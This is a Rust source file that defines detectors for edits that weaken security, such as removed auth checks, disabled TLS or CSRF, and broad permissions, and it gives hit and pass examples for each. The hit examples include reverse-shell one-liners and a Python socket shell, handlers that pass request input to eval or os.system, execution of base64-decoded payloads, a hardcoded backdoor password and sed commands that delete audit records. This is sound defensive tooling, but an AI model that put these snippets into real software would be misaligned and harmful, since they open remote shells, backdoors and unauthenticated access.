//! Detectors for what edits and inline code open or weaken.

use crate::detector::Certainty::{Certain, Possible};
use crate::detector::Example::{Edit, Line, Write};
use crate::detector::{Category, Severity};

detectors! {
    /// Accepts requests for every host name (Django's `ALLOWED_HOSTS`).
    ///
    /// Links in mails and caches can then be made to point at an attacker's host. Common while developing; other
    /// frameworks' settings for this are not recognised.
    ANY_HOST_HEADER {
        id: "code/any-host-header", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
        message: "accepts requests for any host name",
        hits: &[Edit("app/settings.py", "ALLOWED_HOSTS = ['acme.example']", "ALLOWED_HOSTS = ['*']")],
        passes: &[Edit("app/settings.py", "ALLOWED_HOSTS = ['*']", "ALLOWED_HOSTS = ['acme.example']")],
    }

    /// Removes a call that records who did what.
    ///
    /// Audit records are what is left when something went wrong. Only calls with `audit` in their name count;
    /// ordinary log lines may go. A function that is moved away as a whole is passed over.
    AUDIT_RECORD_REMOVED {
        id: "code/audit-record-removed", category: Category::LogTampering, severity: Severity::Hard, certainty: Possible,
        message: "removes an audit record",
        hits: &[
            Edit("src/pay.py", "    audit.record(user, 'pay')\n    pay(user)", "    pay(user)"),
            Line("sed -i '/audit.record/d' src/pay.py"),
        ],
        passes: &[Edit("src/pay.py", "    logger.info('paid')\n    pay(user)", "    pay(user)")],
    }

    /// Makes a check of rights always say yes.
    ///
    /// The check is still called and looks as if it worked. Recognised where a fixed `true` takes the place of a
    /// question about rights; a condition that always holds in a less plain way is not.
    AUTH_CHECK_ALWAYS_PASSES {
        id: "code/auth-check-always-passes", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
        message: "makes an authorization check always pass",
        hits: &[Edit("app/policies/doc.rb", "def destroy? = record.owner == user", "def destroy? = true")],
        passes: &[Edit("src/flags.py", "def enabled(name):\n    return name in FLAGS", "def enabled(name):\n    return True")],
    }

    /// Removes a check of who somebody is or what they may do, and puts none in its place.
    ///
    /// What the check kept back is then open. Words that check are counted before and after the edit: a check that
    /// moves out of the edited part without a trace is found too, and one under an unusual name is not.
    AUTH_CHECK_REMOVED {
        id: "code/auth-check-removed", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
        message: "removes an authentication or authorization check",
        hits: &[Edit("src/views.py", "@login_required\ndef wipe(request):", "def wipe(request):")],
        passes: &[Edit("src/views.py", "@login_required\ndef export(request):", "@method_decorator(login_required)\ndef export(self, request):")],
    }

    /// Turns off authentication or authorization, or lets anonymous callers in.
    ///
    /// What was only for known people is then open to everybody who reaches the service. Recognised by names of
    /// settings and annotations (`allow_anonymous: true`, `permitAll()`, `skip_before_action`); routes that are
    /// meant to be public, such as a health check, are found too.
    AUTHENTICATION_OFF {
        id: "code/authentication-off", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
        message: "turns off authentication or lets anonymous callers in",
        hits: &[Edit("config/mosquitto.yml", "allow_anonymous: false", "allow_anonymous: true")],
        passes: &[Edit("config/mosquitto.yml", "allow_anonymous: true", "allow_anonymous: false")],
    }

    /// Removes or weakens a check with `sed` or `perl`.
    ///
    /// A stream editor changes every place that fits its pattern, and nobody sees them. The pattern is all that is
    /// known, so one that only names a check in passing is found too.
    CHECK_EDITED_AWAY {
        id: "code/check-removed-by-stream-editor", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
        message: "removes a check with a stream editor",
        hits: &[Line("sed -i '/require_admin/d' src/views.py")],
        passes: &[Line("sed -i 's/colour/color/' src/views.py")],
    }

    /// Lets every website call the service from a visitor's browser (CORS).
    ///
    /// With credentials allowed, any page can then read what a visitor who is signed in may read. A public API
    /// without credentials needs exactly this and is found too.
    CORS_ANY_ORIGIN {
        id: "code/cors-any-origin", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
        message: "lets every website call the service (CORS)",
        hits: &[Edit("src/app.ts", "app.use(cors())", "app.use(cors({ origin: true, credentials: true }))")],
        passes: &[Edit("src/app.ts", "app.use(cors())", "app.use(cors({ origin: ['https://app.acme.example'] }))")],
    }

    /// Turns off protection against cross-site request forgery (CSRF).
    ///
    /// Any website can then act in the name of a visitor who is signed in. APIs that use no cookies do not need the
    /// protection; the edit does not show whether that is so.
    CSRF_PROTECTION_OFF {
        id: "code/csrf-protection-off", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
        message: "turns off CSRF protection",
        hits: &[Edit("src/SecurityConfig.java", "http.csrf(withDefaults())", "http.csrf(c -> c.disable())")],
        passes: &[Edit("app/config.py", "WTF_CSRF_ENABLED = False", "WTF_CSRF_ENABLED = True")],
    }

    /// Turns on debug output in settings of production.
    ///
    /// Error pages then show code, settings and data to everybody. Whether a file is for production is read from
    /// its name or that of its folder.
    DEBUG_IN_PRODUCTION {
        id: "code/debug-in-production", category: Category::DisableSecurity, severity: Severity::Soft, certainty: Possible,
        message: "turns on debug output in production",
        hits: &[Edit("config/settings/production.py", "DEBUG = False", "DEBUG = True")],
        passes: &[Edit("config/settings/development.py", "DEBUG = False", "DEBUG = True")],
    }

    /// Turns off a protection of a container, a system or a web page.
    ///
    /// Privileged containers, `SELinux`, firewalls, content security policies and rate limits are the second line of defence;
    /// without them one mistake is enough.
    /// Recognised by known settings in a text that is written or run. A container on a developer's machine may need one
    /// of them.
    DISABLES_HARDENING {
        id: "code/disables-hardening", category: Category::DisableSecurity, severity: Severity::Soft, certainty: Possible,
        message: "turns off a security protection",
        hits: &[Write("compose.yml", "services:\n  app:\n    image: app\n    privileged: true\n")],
        passes: &[Write("compose.yml", "services:\n  app:\n    image: app\n    privileged: false\n")],
    }

    /// Disables the check of TLS certificates or SSH host keys, or lets root log in by SSH.
    ///
    /// Without the check anybody between the two machines can read and change what they say to each other.
    /// Recognised by known settings (`verify=False`, `--insecure`, `StrictHostKeyChecking=no`) in a text that is written
    /// or run. A test against a local server with its own certificate is a common harmless use.
    DISABLES_TLS_CHECKS {
        id: "code/disables-tls-checks", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
        message: "disables TLS certificate or host key checks",
        hits: &[Write("src/http.py", "requests.get(url, verify=False)\n")],
        passes: &[Write("src/http.py", "requests.get(url, verify='/etc/ssl/certs/company.pem')\n")],
    }

    /// Adds code that runs what a request or a connection sends: command or code injection.
    ///
    /// Anybody who can reach the service can run commands on its machine.
    /// Recognised where the input of a request and a call such as `eval` or `system` are in one line, or where the
    /// input can be followed to such a call through the names of one file; not through several files.
    EXECUTES_REQUEST_INPUT {
        id: "code/executes-request-input", category: Category::RemoteExecSurface, severity: Severity::Hard, certainty: Certain,
        message: "runs what a request sends",
        hits: &[Write("src/api.py", "@app.route('/run')\ndef run():\n    return os.system(request.args['cmd'])\n")],
        passes: &[Write("src/api.py", "@app.route('/find')\ndef find():\n    return search(request.args['cmd'])\n")],
    }

    /// Gives wide rights in a file: everybody may write, a role may do everything, `sudo` needs no password.
    ///
    /// Such a grant outlives the task and is rarely taken back.
    /// Recognised by the best-known grants (`chmod 777`, `NOPASSWD: ALL`, `AdministratorAccess`, `cluster-admin`); a
    /// policy that grants many single rights is not.
    GRANTS_BROAD_RIGHTS {
        id: "code/grants-broad-rights", category: Category::GrantPermissions, severity: Severity::Hard, certainty: Certain,
        message: "grants broad permissions",
        hits: &[Write("scripts/setup.sh", "chmod 777 /srv/data\n")],
        passes: &[Write("scripts/setup.sh", "chmod 750 /srv/data\n")],
    }

    /// Removes a clause that stops what is forbidden, too much or no longer allowed.
    ///
    /// Limits of money, quotas and owners are kept by such clauses. Only edits that do nothing else than remove up
    /// to four lines are found, by the words of the clause.
    GUARD_CLAUSE_REMOVED {
        id: "code/guard-clause-removed", category: Category::DisableSecurity, severity: Severity::Soft, certainty: Possible,
        message: "removes a guard clause",
        hits: &[Edit("src/pay.py", "    if amount > limit:\n        raise LimitExceeded()\n    charge(amount)", "    charge(amount)")],
        passes: &[Edit("src/pay.py", "    if amount > limit:\n        raise LimitExceeded()", "    if amount > limit:\n        raise LimitExceeded(f'{amount} is over {limit}')")],
    }

    /// Lets in whoever knows one password, name or header that is written into the code.
    ///
    /// That is a backdoor: everybody who reads the code can use it. Comparisons with short texts and with names
    /// that do not sound like a secret are passed over.
    HARDCODED_LOGIN {
        id: "code/hardcoded-login", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
        message: "lets in one fixed password, name or header",
        hits: &[Edit("src/login.py", "# x", "if api_key == 'letmein123':\n    return owner()")],
        passes: &[Edit("src/pages.ts", "// x", "if (page === 'admin') return showAdmin();")],
    }

    /// Turns off logging or auditing in settings.
    ///
    /// What happens afterwards cannot be looked up. Recognised by `logging` or `audit` in the name of a setting
    /// that is switched off; a higher log level is not found.
    LOGGING_OFF {
        id: "code/logging-off", category: Category::DisableSecurity, severity: Severity::Soft, certainty: Possible,
        message: "turns off logging or auditing",
        hits: &[Edit("infra/db.tf", "enable_logging = true", "enable_logging = false")],
        passes: &[Edit("infra/db.tf", "enable_logging = false", "enable_logging = true")],
    }

    /// Allows a version of SSL or TLS that is broken (SSL 2 and 3, TLS 1.0 and 1.1).
    ///
    /// Connections of these versions can be read or changed by whoever can reach them. Only settings that name a
    /// protocol or a minimum version are read; weak cipher suites are not recognised.
    OLD_TLS_VERSION {
        id: "code/old-tls-version", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
        message: "allows a broken version of SSL or TLS",
        hits: &[Edit("nginx.conf", "ssl_protocols TLSv1.2 TLSv1.3;", "ssl_protocols SSLv3 TLSv1;")],
        passes: &[Edit("nginx.conf", "ssl_protocols TLSv1.2;", "ssl_protocols TLSv1.2 TLSv1.3;")],
    }

    /// Opens a service to everybody: no login, no CSRF protection, unsigned tokens, any origin or any address.
    ///
    /// What was for a few can then be used by every website or every machine that reaches it.
    /// Recognised by known settings of frameworks and clouds (`allow_origins=["*"]`, `permitAll()`, `0.0.0.0/0`). For a
    /// public page or a health check the same setting is right.
    OPENS_ACCESS_TO_ALL {
        id: "code/opens-access-to-all", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
        message: "opens access to everybody",
        hits: &[Write("src/settings.py", "CORS_ALLOW_ALL_ORIGINS = True\n")],
        passes: &[Write("src/settings.py", "CORS_ALLOWED_ORIGINS = ['https://app.example.com']\n")],
    }

    /// Connects to another machine and gives it a shell on this one.
    ///
    /// Whoever listens at the other end can run anything as the user.
    /// Recognised by words for a connection, for starting a program and for a shell in one text, or by known one-liners
    /// (`nc -e`, `/dev/tcp/`); a shell whose name is put together at run time is not seen. A program that
    /// offers terminals over a socket on purpose is found as well.
    REVERSE_SHELL {
        id: "code/reverse-shell", category: Category::RemoteExecSurface, severity: Severity::Hard, certainty: Certain,
        message: "opens a remote shell to another machine",
        hits: &[
            Line("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
            Write(
                "tools/agent.py",
                "import os, socket, subprocess\ns = socket.socket()\ns.connect((HOST, 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n",
            ),
            Write("scripts/debug.sh", "nc -e /bin/sh 203.0.113.5 4444\n"),
        ],
        passes: &[Write("scripts/wait.sh", "nc -z localhost 5432\n")],
    }

    /// Decodes text (Base64, hex, compressed) and runs it as code.
    ///
    /// Encoding hides from people and from this gate what is run; honest code seldom needs it.
    /// Both must be in one line. Data that is decoded and only compiled as a template can be found by mistake.
    RUNS_ENCODED_CODE {
        id: "code/runs-encoded-code", category: Category::RunDownloadedCode, severity: Severity::Hard, certainty: Certain,
        message: "runs encoded text as code",
        hits: &[Write("src/load.py", "exec(base64.b64decode(PAYLOAD))\n")],
        passes: &[Write("src/mail.py", "body = base64.b64decode(part.payload)\n")],
    }

    /// Adds code that runs what it receives: a request handler that passes its input to a shell or to `eval`.
    ///
    /// Whoever reaches the service can run commands on the machine. Input is followed through names in one file; a
    /// fixed program with arguments from a request is passed over.
    RUNS_REMOTE_INPUT {
        id: "code/runs-remote-input", category: Category::RemoteExecSurface, severity: Severity::Hard, certainty: Possible,
        message: "adds code that runs what it receives over the network",
        hits: &[
            Write("src/dbg.py", "@app.post('/eval')\ndef x(code: str):\n    return eval(code)\n"),
            Edit("src/a.js", "x()", "const c = req.query.c;\nexec(c)"),
        ],
        passes: &[Edit("src/a.js", "x()", "const c = req.query.c;\nre.exec(c)")],
    }

    /// Removes a security measure: a rate limiter, sanitizing, encryption, security headers, a scanner.
    ///
    /// Nothing shows later that the measure is missing. Words are counted before and after the edit, so one that
    /// moves to another file is found too. In files of builds and CI the finding is certain.
    SECURITY_CHECK_REMOVED {
        id: "code/security-check-removed", category: Category::DisableSecurity, severity: Severity::Soft, certainty: Certain,
        message: "removes a security check (`{}`)",
        hits: &[Edit("src/app.js", "app.use(helmet())\napp.use(routes)", "app.use(routes)")],
        passes: &[Edit("src/app.js", "app.use(helmet())", "app.use(helmet({ hsts: { maxAge: 31536000 } }))")],
    }

    /// Turns off a security setting: encryption, a firewall, a sandbox, rate limits, cookie flags, versioning.
    ///
    /// The setting is there to keep an attack from working. Recognised by a protective part of the name and a value
    /// that means off, in any language; what the setting really does is not known.
    SECURITY_SETTING_OFF {
        id: "code/security-setting-off", category: Category::DisableSecurity, severity: Severity::Soft, certainty: Possible,
        message: "turns off a security setting",
        hits: &[Edit("redis.conf", "protected-mode yes", "protected-mode no")],
        passes: &[Edit("redis.conf", "protected-mode no", "protected-mode yes")],
    }

    /// Reads a token or a message without checking its signature.
    ///
    /// Anybody can then make up a token, and with it who they are. Recognised by names (`verify_signature: false`,
    /// `ParseUnverified`); a comparison that is taken out is `code/auth-check-removed`.
    SIGNATURE_CHECK_OFF {
        id: "code/signature-check-off", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
        message: "accepts tokens or messages without checking their signature",
        hits: &[
            Edit("src/auth.py", "jwt.decode(token, KEY)", "jwt.decode(token, KEY, options={'verify_signature': False})"),
            Edit("src/auth.go", "jwt.Parse(s, key)", "parser.ParseUnverified(s, claims) // was jwt.Parse(s, key)\njwt.Parse(s, key)"),
        ],
        passes: &[Edit("src/auth.py", "jwt.decode(token, KEY)", "jwt.decode(token, KEY, algorithms=['HS256'])")],
    }

    /// Turns off the verification of TLS certificates, host names or SSH host keys, or allows plain connections.
    ///
    /// Whoever sits between the two machines can then read and change what is sent. Recognised by the names of
    /// settings and classes (`verify=False`, `InsecureSkipVerify`, `AutoAddPolicy`), so a setting that merely has
    /// `verify` or `ssl` in its name is found too; a custom handler that accepts everything is not.
    TLS_VERIFICATION_OFF {
        id: "code/tls-verification-off", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
        message: "disables the verification of TLS certificates or host keys",
        hits: &[Edit("src/client.py", "requests.get(url)", "requests.get(url, verify=False)")],
        passes: &[Edit("src/client.py", "requests.get(url)", "requests.get(url, verify='certs/acme.pem')")],
    }

    /// Lets a page run inline or evaluated scripts, or scripts from anywhere, in its content security policy.
    ///
    /// Text that an attacker gets into the page is then run. Inline scripts with a nonce are passed over; a policy
    /// that is taken out altogether is `code/security-check-removed`.
    UNSAFE_CSP {
        id: "code/unsafe-content-security-policy", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
        message: "allows unsafe scripts in the content security policy",
        hits: &[Edit("src/csp.js", "\"script-src 'self'\"", "\"script-src 'self' 'unsafe-eval'\"")],
        passes: &[Edit("src/csp.js", "\"img-src 'self'\"", "\"img-src 'self' data:\"")],
    }
}
